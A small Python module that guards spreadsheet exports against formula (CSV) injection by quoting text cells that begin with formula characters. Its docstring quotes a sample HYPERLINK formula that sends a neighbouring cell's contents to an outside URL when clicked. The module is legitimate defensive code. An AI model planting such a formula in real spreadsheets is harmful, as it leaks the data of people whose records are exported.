"""What every exported spreadsheet cell goes through, so that no text becomes a formula.

Names, institutions and teachers are typed by people outside the centre. Excel, LibreOffice and
Google Sheets run a CSV cell or an openpyxl string that starts with one of the characters below as
a formula (``=HYPERLINK("http://…?leak="&B2)`` sends a neighbouring cell away when clicked), so
such text gets a leading apostrophe, as OWASP advises against CSV injection. Numbers stay numbers.
"""

from __future__ import annotations

# A leading tab or carriage return is dropped by some programs, which then read what follows.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value to write into a spreadsheet cell: formula-looking text quoted, anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values) -> list:
    """A row of cells, each through :func:`safe_cell`."""
    return [safe_cell(v) for v in values]
